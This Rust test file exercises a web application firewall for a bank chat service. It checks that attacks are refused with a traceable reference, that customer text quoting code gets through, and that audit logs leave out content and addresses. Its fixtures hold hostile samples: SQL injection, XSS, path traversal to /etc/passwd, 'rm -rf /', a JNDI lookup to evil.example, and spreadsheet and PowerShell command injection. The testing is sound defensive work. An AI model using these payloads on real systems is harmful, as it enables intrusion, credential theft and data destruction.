//! The firewall of the whole house: attacks are refused with a reference, and what people write passes.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::house::{House, wardroom};
use crate::visitor::{Visitor, client};

/// What customers of a bank ask, code that they quote included.
const QUESTIONS: [&str; 20] = [
    "What's the fee for a transfer to O'Brien & Sons in the U.K.?",
    "How do I drop my overdraft and union my two accounts into one?",
    "I want to select a card from the list where the annual fee is 0 -- which one?",
    "Can I order by phone or 1-to-1 in the branch?",
    "My IBAN is DE89 3704 0044 0532 0130 00; is it valid?",
    "Please update my address; set it to 12 Kings' Road, Apt. #4",
    "Why does the app say: Error 500 / <unknown>?",
    "Is 5 > 3 % interest or < 3 % at your bank?",
    "I tried `curl https://api.example.com/v1/accounts` and got 401",
    "This failed: SELECT * FROM accounts WHERE id = 1 OR 1=1; --",
    "Our intern typed 1'; DROP TABLE customers;-- into the form. Is that bad?",
    "My web page has <script>alert(document.cookie)</script> in it, is that yours?",
    "What does <img src=x onerror=alert(1)> in your newsletter do?",
    "The log shows ../../etc/passwd, were we attacked?",
    "cat /etc/passwd; rm -rf / is what the mail told me to run",
    "I got ${jndi:ldap://evil.example/a} in a payment reference",
    "The template printed {{7*7}} where my name should be",
    "Excel says =cmd|' /C calc'!A0 in your export?",
    "powershell -enc SQBFAFgA popped up when I opened the statement",
    "Merci, c'est très bien ; à bientôt & bonne journée !",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_attack_is_refused_with_a_reference_that_staff_find_and_chat_text_passes() {
    let temp = tempfile::tempdir().unwrap();
    let data = temp.path().join("data");
    let house = House::start(&data);
    let visitor = Visitor::open(&house.ready).await;

    let attack = format!("{}/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", visitor.base);
    let refused = visitor.client.get(attack).send().await.unwrap();
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    assert_eq!(refused.headers()["content-type"], "application/problem+json");
    let reference = refused.headers()["x-request-id"].to_str().unwrap().to_owned();
    let problem: Value = refused.json().await.unwrap();
    assert_eq!(problem["instance"], format!("urn:wardroom:request:{reference}"));
    assert!(problem["mend"].as_str().unwrap().contains(&reference), "{problem}");

    let field = json!({ "text": "hello", "client_id": "<script>alert(1)</script>" });
    assert_eq!(visitor.post_patiently(&field).await.unwrap().status(), StatusCode::FORBIDDEN);
    for question in QUESTIONS {
        let sent = visitor.post_patiently(&json!({ "text": question })).await.unwrap();
        assert_eq!(sent.status(), StatusCode::ACCEPTED, "{question}");
    }
    // The staff door has the same firewall.
    let staff = format!("{}/sign-in?next=%2F..%2F..%2Fetc%2Fpasswd", house.ready.console);
    assert_eq!(client(&house.ready).get(staff).send().await.unwrap().status(), StatusCode::FORBIDDEN);

    let place = data.to_str().unwrap();
    let mut tail = String::new();
    for _ in 0..40 {
        tail = wardroom(&["audit", "tail", "--lines", "200", "--data", place]).1;
        if tail.contains("EDGE-1003W") && tail.contains("EDGE-1004I") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    }
    assert!(tail.contains("EDGE-1003W  request.blocked"), "{tail}");
    assert!(tail.contains("EDGE-1004I  suspicious.text"), "{tail}");

    let export = temp.path().join("export");
    assert_eq!(house.interrupt(), 0);
    assert_eq!(wardroom(&["audit", "export", "--data", place, export.to_str().unwrap()]).0, 0);
    let mut logged = String::new();
    let mut folders = vec![export];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                logged.push_str(&String::from_utf8_lossy(&fs::read(path).unwrap()));
            }
        }
    }
    assert!(logged.contains(&reference), "the event is found by the reference");
    assert!(!logged.contains("UNION") && !logged.contains("127.0.0.1"), "neither content nor an address");
}

#[test]
fn rules_with_a_mistake_keep_the_house_shut_and_name_the_line() {
    let temp = tempfile::tempdir().unwrap();
    let data = temp.path().join("data");
    fs::create_dir(&data).unwrap();
    fs::set_permissions(&data, fs::Permissions::from_mode(0o700)).unwrap();
    let rules = temp.path().join("own.conf");
    fs::write(&rules, "# ours\nSecRule WEATHER \"@streq rain\" \"id:1,phase:1,deny\"\n").unwrap();
    fs::write(data.join("wardroom.toml"), format!("[waf]\nrules = [\"builtin\", {rules:?}]\n")).unwrap();
    let refused = House::try_start(&data).err().unwrap();
    assert_eq!(refused.status, 1);
    assert!(
        refused.stderr.contains("own.conf:2: ") && refused.stderr.contains("WEATHER"),
        "{}",
        refused.stderr
    );

    let (status, _, said) = wardroom(&["waf", "check", rules.to_str().unwrap()]);
    assert!(status == 1 && said.contains("own.conf:2: "), "{said}");
    let (status, counts, _) = wardroom(&["waf", "check", "builtin"]);
    assert!(status == 0 && counts.contains(" rules, "), "{counts}");
}

#[test]
fn a_request_is_explained_rule_by_rule() {
    let temp = tempfile::tempdir().unwrap();
    let place = temp.path().join("data");
    let ask = |text: &str| {
        let file = temp.path().join("request");
        fs::write(&file, text).unwrap();
        wardroom(&["waf", "explain", file.to_str().unwrap(), "--data", place.to_str().unwrap()])
    };
    let (status, said, _) =
        ask("GET /?q=%253Cscript%253Ealert(1)%253C/script%253E HTTP/1.1\nHost: a.test\n\n");
    assert_eq!(status, 1);
    for words in ["ARGS:q", "%3Cscript%3E", "<script>", "urlDecodeUni", "refused: rule 1008"] {
        assert!(said.contains(words), "{words} in {said}");
    }
    let body = r#"{"text": "why is <script>alert(1)</script> in my page?"}"#;
    let head =
        "POST /chat/v1/conversations/x/messages HTTP/1.1\nHost: a.test\nContent-Type: application/json";
    let (status, said, _) = ask(&format!("{head}\nContent-Length: {}\n\n{body}", body.len()));
    assert_eq!(status, 0, "{said}");
    assert!(said.contains("a signal only") && said.contains("passes"), "{said}");
    assert_eq!(ask("hello").0, 1);
}
